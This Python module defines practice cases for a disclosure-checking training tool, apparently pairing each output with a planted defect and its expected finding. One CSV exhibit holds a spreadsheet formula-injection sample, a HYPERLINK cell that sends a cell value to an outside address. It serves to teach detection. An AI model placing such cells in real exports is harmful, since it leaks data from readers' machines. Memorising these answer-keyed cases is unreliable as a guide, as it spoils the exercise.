"""Practice cases about files, and about what the author says."""

from safe_outputs.answers import Column
from safe_outputs.practice import dummies, tables
from safe_outputs.practice.case import Case, Exhibit, Planted
from safe_outputs.practice.defects import Defect
from safe_outputs.practice.dummies import AGES, REGIONS, SECTORS
from safe_outputs.practice.making import GOOD, LABELS, PERSONS, case, exhibit, finding


def _file(title: str, name: str, text: str) -> Exhibit:
    return Exhibit(title=title, provenance="manual", table=None, file_name=name, file_text=text)


def rows(id_: str) -> Case:
    data = dummies.persons(19, 40)[["region", "sector", "age", "income"]]
    planted = finding(
        Defect.INDIVIDUALS,
        "Every line of the file is one person: region, sector, age and income.",
        f"{len(data)} lines of single persons",
        "no record of a single person or business leaves",
        "Release a table of them, or the model's coefficients.",
    )
    told = "The points of a scatter plot are persons, with their very incomes."
    part = _file("Data of the scatter plot", "figure_3.csv", data.to_csv(index=False))
    purpose = "The points of figure 3 (income by age and sector), so that readers can draw it again."
    return case(id_, "Figure 3", (part,), told, planted, arguable=frozenset({Defect.SMALL_COUNTS}), purpose=purpose)


def formula(id_: str) -> Case:
    text = (
        'region,persons,note\nNorth,312,=HYPERLINK("http://example.org/?"&B2;"see")\nEast,240,@SUM(B2:B3)\nSouth,198,\n'
    )
    planted = finding(
        Defect.ACTIVE_CONTENT,
        "Two cells begin like formulas; a spreadsheet computes them, and one calls an address with a number in it.",
        "2 formula cells",
        "text and numbers alone",
        "Write such cells as text, or leave the column out.",
    )
    told = "The numbers are fine. The notes are formulas, which run on the reader's machine."
    part = _file("Persons by region, with notes", "notes.csv", text)
    return case(id_, "Persons with notes", (part,), told, planted, purpose=GOOD.format("by region"))


def no_context(id_: str) -> Case:
    codes = {"region": REGIONS[:4], "benefit": ("yes", "no")}
    data = dummies.persons(31, 2400)
    made = tables.table_of(data[data["region"] != "Isles"], codes, "person")
    shown = tables.shown(made, codes, Column(name="n", label="n"), {"region": "v12", "benefit": "q7"})
    planted = finding(
        Defect.CONTEXT_MISSING,
        "Neither the request nor the table says who is counted, when, and what the columns mean.",
        "population, time and labels missing",
        "everything that is needed to judge an output is in the request",
        "Say what is counted, of whom, when; name the columns in words.",
    )
    told = "The numbers are large, but nobody can tell of whom they are, so nobody can judge them."
    return case(id_, "tab3_final_v2", (exhibit("n by v12 and q7", shown),), told, planted, purpose="For the paper.")


def wrong_audience(id_: str) -> Case:
    codes = {"age": AGES, "benefit": ("yes", "no")}
    made = tables.table_of(dummies.persons(32, 3000), codes, "person")
    part = exhibit(
        "Persons by age and housing benefit", tables.shown(made, codes, PERSONS, LABELS), provenance="verified"
    )
    planted = finding(
        Defect.WRONG_AUDIENCE,
        "The author wants it for the team's meeting alone, under an embargo, and asks for publication.",
        "publication, for everybody",
        "pre-publication, for a named team",
        "Ask for pre-publication, and for publication after the embargo.",
    )
    told = "Nothing is wrong with the table. What the author writes and the audience that is asked for do not fit."
    purpose = (
        "Persons by age with and without housing benefit, on 1 May. For Thursday's meeting of the project team only; "
        "under embargo until the report is out in March."
    )
    return case(id_, "Benefit by age", (part,), told, planted, purpose=purpose)


def two_at_once(id_: str) -> Case:
    codes = {"age": AGES, "sector": SECTORS}
    made = tables.table_of(dummies.persons(34, 420), codes, "person")
    shown = tables.shown(made, codes, Column(name="n", label="n"), {"age": "Age", "sector": "Sector"})
    small = Planted(Defect.SMALL_COUNTS, tables.finding_of(made, "threshold", "persons"))
    context = finding(
        Defect.CONTEXT_MISSING,
        "The request does not say of whom the numbers are, nor of which time.",
        "population and time missing",
        "everything that is needed to judge an output is in the request",
        "Say what is counted, of whom, and when.",
    )
    told = "Two defects: small cells, and no word of what is counted. Return it once, with both."
    return case(
        id_, "Age and sector", (exhibit("n by age and sector", shown),), told, small, context, purpose="See title."
    )


def extremes(id_: str) -> Case:
    data = dummies.persons(35, 1500)
    grouped = data.groupby("region")["income"].agg(["count", "min", "median", "max"]).loc[list(REGIONS)]
    text = grouped.round().astype(int).to_csv(header=["persons", "lowest", "median", "highest"])
    planted = finding(
        Defect.INDIVIDUALS,
        "The lowest and the highest income of a region are each the income of one person.",
        f"{2 * len(grouped)} values of single persons",
        "no value of a single person or business leaves",
        "Give percentiles with at least ten persons beyond them in place of minimum and maximum.",
    )
    told = "Regions are large and the medians are fine; a minimum and a maximum are one person's value."
    return case(
        id_,
        "Incomes by region",
        (_file("Incomes by region", "incomes.csv", text),),
        told,
        planted,
        arguable=frozenset({Defect.SMALL_COUNTS}),
        purpose=_INCOMES,
    )


_INCOMES = "Table 5 of the report: yearly income in euros of persons in work on 1 May, by region."
